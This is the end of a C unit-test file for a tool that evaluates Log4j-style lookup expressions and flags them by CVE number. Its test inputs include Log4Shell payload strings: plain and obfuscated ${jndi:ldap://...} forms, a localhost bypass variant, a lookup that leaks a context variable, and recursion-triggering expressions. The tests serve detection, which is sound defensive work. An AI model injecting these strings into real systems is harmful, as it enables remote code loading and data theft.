    CU_ASSERT(names_are("x:\xc0\xc1\xf5\xf6\xf7\xf8\xf9\xfa\xfb\xfc\xfd\xfe\xff${hostName}"));
}

static void note_step(void *context, const struct lookup_step *step)
{
    struct sbuf *out = context;
    static const char *const kinds[] = {"reading", "text",    "value",    "default",  "nothing",
                                        "ask",     "escaped", "shielded", "exception"};
    sbuf_add_format(out, "%s %u ", kinds[step->kind], step->depth);
    sbuf_add(out, step->text);
    sbuf_add_str(out, " = ");
    sbuf_add(out, step->value);
    sbuf_add_str(out, "\n");
}

static void steps_are_told_in_order(void)
{
    struct sbuf out = sbuf_with_cap(4096);
    struct lookup_options options = {.step = note_step, .step_context = &out};
    lookup_evaluate(lookup, SPAN("${${lower:J}ndi:x:${a:-y}}"), &options, &result);
    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("reading 0  = as it stands\n"
                                               "text 0 ${${lower:J}ndi:x:${a:-y}} = \n"
                                               "value 1 lower:J = j\n"
                                               "default 1 a = y\n"
                                               "ask 1 x:y = \n"
                                               "nothing 0 jndi:x:y = \n")));
    sbuf_free(&out);
}

static uint32_t cves_of(struct span text)
{
    evaluate(text);
    return result.cves;
}

static void cves(void)
{
    const uint32_t asks = 1u << CVE_2021_44228;
    const uint32_t context = asks | 1u << CVE_2021_45046;
    const uint32_t cycle = 1u << CVE_2021_45105;
    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://x/a}")), asks);
    CU_ASSERT_EQUAL(cves_of(SPAN("$${jndi:ldap://x/a}")), asks);
    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi :ldap://x/a}")), asks);
    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://127.0.0.1#x.example:1389/a}")), context);
    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://x/a#b}")), asks);
    CU_ASSERT_EQUAL(cves_of(SPAN("${${ctx:a:-j}ndi:ldap://x/a}")), context);
    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://x/${ctx:user}}")), context);
    CU_ASSERT_EQUAL(cves_of(SPAN("${ctx:user}")), 0);
    CU_ASSERT_EQUAL(cves_of(SPAN("${${::-${::-$${::-j}}}}")), cycle);
    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:N:-$${jndi:N}}")), asks | cycle);
    CU_ASSERT_EQUAL(cves_of(SPAN("${java:x}")), 0);
}

static CU_TestInfo grammar_tests[] = {
    {"passes", passes},
    {"passes count UTF-16 units", passes_count_utf16_units},
    {"ranges and escapes", ranges_and_escapes},
    {"name and default", name_and_default},
    {"prefixes", prefixes},
    {"the default look-up knows the host name", default_lookup_knows_the_host_name},
    {"cycles throw", cycles_throw},
    {"the cycle list holds the range", cycle_list_holds_the_range},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo value_tests[] = {
    {"values", values},
    {"java throws on unknown keys", java_throws_on_unknown_keys},
    {"dates", dates},
    {"dates at the turn of the year", dates_at_the_turn_of_the_year},
    {"Unicode case", unicode_case},
    {"host values do not mix with bytes of the text",
     host_values_do_not_mix_with_bytes_of_the_text},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo limit_tests[] = {
    {"depth well over 1600 is evaluated", depth_well_over_1600_is_evaluated},
    {"depth beyond the cap is over budget", depth_beyond_the_cap_is_over_budget},
    {"fuel runs out and what was found stands", fuel_runs_out_and_what_was_found_stands},
    {"long texts are cut and say so", long_texts_are_cut_and_say_so},
    {"names beyond the cap are over budget", names_beyond_the_cap_are_over_budget},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo report_tests[] = {
    {"call-backs", callbacks},
    {"schemes that reach the network", schemes_that_reach_the_network},
    {"variables that would leak", variables_that_would_leak},
    {"tricks", tricks},
    {"raw is the expression that asks", raw_is_the_expression_that_asks},
    {"CVEs", cves},
    {"steps are told in order", steps_are_told_in_order},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo class_tests[] = {
    {"conditional ones", conditional_ones},
    {"attempts", attempts},
    {"harmless ones", harmless_ones},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"grammar", start, end, NULL, NULL, grammar_tests},
        {"values", start, end, NULL, NULL, value_tests},
        {"limits", start, end, NULL, NULL, limit_tests},
        {"report", start, end, NULL, NULL, report_tests},
        {"classes", start, end, NULL, NULL, class_tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
